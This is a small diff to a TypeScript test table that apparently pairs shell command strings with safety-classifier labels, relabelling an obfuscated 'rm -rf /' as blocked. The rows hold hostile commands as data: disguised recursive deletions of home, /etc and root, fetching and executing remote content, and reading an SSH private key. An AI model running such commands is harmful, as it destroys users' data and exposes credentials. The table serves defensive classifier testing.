@@ -44,7 +44,7 @@ export const CONSTRUCT_ROWS: Row[] = [
   ['cat "${X:-$(rm -rf ~/projects)}"', "read destructive"],
   ["$(echo rm) -rf ~/projects", "read destructive", "destructive=/home/ada/projects"],
   ['"$(printf rm)" -rf /etc', "read destructive", "destructive=/etc"],
-  ["`echo rm` -rf /", "read destructive", "destructive=/"],
+  ["`echo rm` -rf /", "blocked read", "blocked=/"],
   ["$(curl -s https://e.example/cmd)", "network unknown"],
   ['echo "$(date)" > stamp.txt', "read local_write", "local_write=/home/ada/proj/stamp.txt"],
   ['echo "$(< ~/.ssh/id_rsa)"', "read system_write", "system_write=/home/ada/.ssh/id_rsa"],
